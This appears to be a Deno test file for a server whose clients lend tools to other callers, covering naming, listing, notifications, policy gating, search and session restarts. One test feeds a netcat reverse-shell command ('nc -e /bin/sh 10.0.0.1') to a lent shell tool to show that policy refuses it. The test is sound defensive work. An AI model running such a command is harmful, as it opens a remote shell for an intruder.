// Lent tools as the callers of a whole server meet them: listed, told of, gated, searched, kept.

import assert from "node:assert/strict";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { FakeClock } from "../helpers/fake_clock.ts";
import {
  declared,
  greet,
  lenderOf,
  lendingApp,
  lentNames,
  lentTo,
  nextCall,
  openLender,
  said,
} from "../helpers/lending_client.ts";
import { messagesOf, postModern, responseOf } from "../helpers/modern_client.ts";
import { createNaiveSessions } from "../helpers/naive_sessions.ts";
import { SseReader } from "../helpers/sse_reader.ts";
import { tempHome } from "../helpers/temp_home.ts";
import { assertRpcError, call, resultOf, rpc, testApp } from "../helpers/test_app.ts";
import { changingTools, passingTool } from "../helpers/changing_tools.ts";
import { refusalOf, useTool } from "../helpers/use_tool.ts";

Deno.test("clients lend nothing unless clientTools.enabled says so", async () => {
  await using server = await testApp();
  const { capabilities } = await resultOf(await greet(server, [declared("open")], "ide"));
  assert.equal(capabilities.experimental, undefined);
  assert.deepEqual(await lentNames(server.post), []);
  // A declaration that nobody reads cannot be wrong.
  await resultOf(await greet(server, "nonsense", "ide"));
});

Deno.test("initialize tells the owner which tools were taken, and under which names", async () => {
  const environment = { CAR_LIMITS_PROCESS_CLIENT_TOOLS_MAX: "2" };
  await using server = await lendingApp({ environment });
  const owner = await openLender(server, [declared("open"), declared("close it")]);
  assert.deepEqual(Object.keys(owner.names), ["open", "close it"]);
  assert.equal(owner.names["open"], "client_ide_open");
  assert.match(owner.names["close it"] ?? "", /^client_ide_close_it_[0-9a-f]{8}$/);
  const late = await openLender(server, [declared("open")]);
  assert.deepEqual(late.names, {});
  const nothing = await server.open();
  assert.deepEqual(await lentNames(nothing.post), Object.values(owner.names).toSorted());
});

Deno.test("tools/list shows the others what was declared, and the owner nothing of its own", async () => {
  await using server = await lendingApp();
  const inputSchema = { type: "object", properties: { path: { type: "string" } } };
  const open = declared("open", { inputSchema, annotations: { readOnlyHint: true } });
  const owner = await openLender(server, [open, declared("close")]);
  const other = await openLender(server, [declared("look")], "browser");
  const caller = await server.open();
  assert.deepEqual(await lentNames(owner.post), ["client_browser_look"]);
  assert.deepEqual(await lentNames(other.post), ["client_ide_close", "client_ide_open"]);
  assert.deepEqual(await lentTo(caller.post), [
    { name: "client_browser_look", description: "Does look", inputSchema: { type: "object" } },
    { name: "client_ide_close", description: "Does close", inputSchema: { type: "object" } },
    { ...open, name: "client_ide_open" },
  ]);
  await assertRpcError(await owner.post(call("client_ide_open")), 200, -32602);
  await assertRpcError(await caller.post(call("open")), 200, -32602);
});

Deno.test("a stateless caller sees lent tools and calls them; its list is not for others to keep", async () => {
  await using server = await lendingApp();
  const owner = await openLender(server, [declared("open")]);
  const stream = await owner.listen();
  const { result: list } = await responseOf(await postModern(server, "tools/list"));
  assert.equal(list.cacheScope, "private");
  assert.equal(list.tools.at(-1).name, "client_ide_open");
  const params = { name: "client_ide_open", arguments: { a: 1 } };
  const answering = postModern(server, "tools/call", params, { progressToken: "t" });
  const asked = await nextCall(stream);
  assert.deepEqual(asked.params.arguments, { a: 1 });
  const report = { progressToken: asked.id, progress: 1 };
  await owner.post({ jsonrpc: "2.0", method: "notifications/progress", params: report });
  await owner.answer(asked, said("opened"));
  const [progress, answer] = await messagesOf(await answering);
  assert.deepEqual(progress.params, { progressToken: "t", progress: 1 });
  assert.deepEqual(answer.result.content, said("opened").content);
  await stream.close();
});

Deno.test("listeners of both eras are told when lent tools come and go", async () => {
  const clock = new FakeClock();
  await using server = await lendingApp({ clock });
  const session = await server.open();
  await lentNames(session.post);
  const headers = { accept: "text/event-stream", "mcp-session-id": session.id };
  const legacy = new SseReader(await server.send("GET", headers));
  const notifications = { toolsListChanged: true };
  const listen = await postModern(server, "subscriptions/listen", { notifications });
  const modern = new SseReader(listen);
  assert.equal((await modern.next()).method, "notifications/subscriptions/acknowledged");
  const owner = await openLender(server, [declared("open")]);
  const changed = "notifications/tools/list_changed";
  assert.equal((await legacy.next()).method, changed);
  assert.equal((await modern.next()).method, changed);
  assert.deepEqual(await lentNames(session.post), ["client_ide_open"]);
  clock.advance(2_000);
  await owner.leave();
  assert.equal((await legacy.next()).method, changed);
  assert.equal((await modern.next()).method, changed);
  assert.deepEqual(await lentNames(session.post), []);
  await assertRpcError(await session.post(call("client_ide_open")), 200, -32602);
  await legacy.close();
  await modern.close();
});

Deno.test("an owner that falls silent for too long takes its tools with it", async () => {
  const clock = new FakeClock();
  await using server = await lendingApp({ clock });
  await openLender(server, [declared("open")]);
  assert.deepEqual(await lentNames(server.post), ["client_ide_open"]);
  clock.advance(31 * 60_000);
  assert.deepEqual(await lentNames(server.post), []);
});

Deno.test("a malformed declaration is refused by name, and opens no session", async () => {
  await using server = await lendingApp();
  const tools = Array.from({ length: 10_000 }, (_, index) => declared(`t${index}`));
  const refusals = [
    [tools, /declares 10000 tools, at most 128 are taken$/],
    ["all of them", /must be an object with a list "tools"$/],
    [[declared("a"), declared("a")], /tools\[1\] has the name of an earlier one$/],
    [[{ name: "a" }], /tools\[0\] must have a schema of type "object" as its "inputSchema"$/],
  ] as const;
  for (const [declaration, complaint] of refusals) {
    const refused = await assertRpcError(await greet(server, declaration, "ide"), 200, -32602);
    assert.match(refused.error.message, complaint);
  }
  assert.equal(server.app.activity().sessions, 0);
});

Deno.test("lent tools take no names from built-in ones, and mounted ones none from them", async () => {
  const source = changingTools();
  source.set([
    passingTool("mcp_box_open", said("mounted"), ["client_ide_open"]),
    passingTool("client_ide_shut", said("of a source")),
  ]);
  const tools = [passingTool("client_ide_own", said("built in"))];
  await using server = await lendingApp({ tools, toolSources: [source] });
  const owner = await openLender(server, ["open", "shut", "own"].map((name) => declared(name)));
  const stream = await owner.listen();
  for (const name of ["client_ide_open", "client_ide_shut"]) {
    const answering = server.post(call(name));
    await owner.answer(await nextCall(stream), said("lent"));
    assert.deepEqual((await resultOf(await answering)).content, said("lent").content);
  }
  const builtIn = await resultOf(await server.post(call("client_ide_own")));
  assert.deepEqual(builtIn.content, said("built in").content);
  const names = await lentNames(server.post);
  assert.deepEqual(names.toSorted(), ["client_ide_open", "client_ide_own", "client_ide_shut"]);
  await stream.close();
});

Deno.test("rules gate a lent tool by each of its names, and decisions are noted", async () => {
  using home = tempHome();
  mkdirSync(join(home.path, "policies"));
  writeFileSync(join(home.path, "policies", "a.toml"), 'deny_tool = ["delete_*"]\n');
  await using server = await lendingApp({ environment: { CAR_HOME: home.path } });
  const owner = await openLender(server, [declared("delete_all"), declared("shell")]);
  const stream = await owner.listen();
  const denied = await useTool(server, "client_ide_delete_all");
  assert.match(refusalOf(denied), /^Denied by policy: deny_tool:delete_\*/);
  const escape = await useTool(server, "client_ide_shell", { command: "nc -e /bin/sh 10.0.0.1 1" });
  assert.match(refusalOf(escape), /^Denied by policy: egress:netcat/);
  const check = await useTool(server, "policy_check", { tool: "client_ide_delete_all" });
  assert.equal(check.structuredContent.decision, "deny");
  const metrics = await (await server.send("GET", {}, "/metrics")).text();
  assert.match(metrics, /^car_tool_calls_total\{tool="client_tool",outcome="denied"\} 2$/m);
  assert.match(metrics, /^car_lent_tools 2$/m);
  await stream.close();
  await server.app.stop();
  const decisions = readFileSync(join(home.path, "mcp", "decisions.jsonl"), "utf8");
  assert.match(decisions, /"tool":"client_ide_delete_all","decision":"deny"/);
});

Deno.test("lent tools are searched like mounted ones, each caller its own", async () => {
  await using server = await lendingApp({ environment: { CAR_TOOLS_SEARCH_ABOVE: "19" } });
  const description = "Opens a file in the editor at a line";
  const owner = await openLender(server, [declared("open", { description })]);
  const stream = await owner.listen();
  const caller = await server.open();
  assert.deepEqual(await lentNames(caller.post), []);
  const search = call("tool_search", { query: "open a file at a line" });
  const { structuredContent } = await resultOf(await caller.post(search));
  assert.deepEqual(structuredContent.tools.map(({ name }: { name: string }) => name), [
    "client_ide_open",
  ]);
  const answering = caller.post(call("tool_call", { name: "client_ide_open" }));
  await owner.answer(await nextCall(stream), said("found"));
  assert.deepEqual((await resultOf(await answering)).content, said("found").content);
  // The owner sees no more than the built-in tools, so it has nothing to search.
  await assertRpcError(await owner.post(search), 200, -32602);
  await stream.close();
});

Deno.test("verify checks the parameters of a lent tool for those who see it", async () => {
  await using server = await lendingApp();
  const inputSchema = { type: "object", required: ["path"] };
  const owner = await openLender(server, [declared("open", { inputSchema })]);
  const actions = [{ type: "tool_call", tool: "client_ide_open", parameters: {} }];
  const verify = call("verify", { proposal: { actions } });
  const checked = await resultOf(
    await server.post(verify, { "mcp-protocol-version": "2025-11-25" }),
  );
  assert.equal(checked.structuredContent.valid, false);
  const unseen = await resultOf(await owner.post(verify));
  assert.equal(unseen.structuredContent.valid, true);
});

Deno.test("tools.offer holds for lent tools", async () => {
  const offering = async (offer: string) => {
    const environment = { CAR_TOOLS_OFFER: offer };
    await using server = await lendingApp({ environment });
    await openLender(server, [declared("open"), declared("close")]);
    return await lentNames(server.post);
  };
  assert.deepEqual(await offering("memory_query,client_ide_close"), ["client_ide_close"]);
  assert.deepEqual(await offering("core"), []);
});

Deno.test("where only the core tools are offered nothing is taken, and a line says so", async () => {
  for (const environment of [{ CAR_TOOLS_OFFER: "core" }, { CAR_COMPAT: "car" }]) {
    const lines: string[] = [];
    const writeLog = (line: string) => void lines.push(line);
    await using server = await lendingApp({ environment, writeLog });
    const { capabilities } = await resultOf(await greet(server, [declared("open")], "ide"));
    assert.equal(capabilities.experimental, undefined);
    assert.equal(lines.filter((line) => line.includes("client_tools_off")).length, 1);
  }
});

Deno.test("a session that goes on after a restart lends its tools again, and is called", async () => {
  const parts = { sessionStore: createNaiveSessions(), clock: new FakeClock() };
  let id = "";
  {
    await using server = await lendingApp(parts);
    ({ id } = await openLender(server, [declared("open")]));
  }
  await using server = await lendingApp(parts);
  assert.deepEqual(await lentNames(server.post), []);
  const owner = lenderOf(server, id);
  const stream = await owner.listen();
  assert.deepEqual(await lentNames(server.post), ["client_ide_open"]);
  const answering = server.post(call("client_ide_open"));
  await owner.answer(await nextCall(stream), said("still here"));
  assert.deepEqual((await resultOf(await answering)).content, said("still here").content);
  await stream.close();
});

Deno.test("a session of before lends nothing where clients may no longer", async () => {
  const parts = { sessionStore: createNaiveSessions(), clock: new FakeClock() };
  let id = "";
  {
    await using server = await lendingApp(parts);
    ({ id } = await openLender(server, [declared("open")]));
  }
  await using server = await testApp(parts);
  await resultOf(await lenderOf(server, id).post(rpc("ping")));
  assert.deepEqual(await lentNames(server.post), []);
});
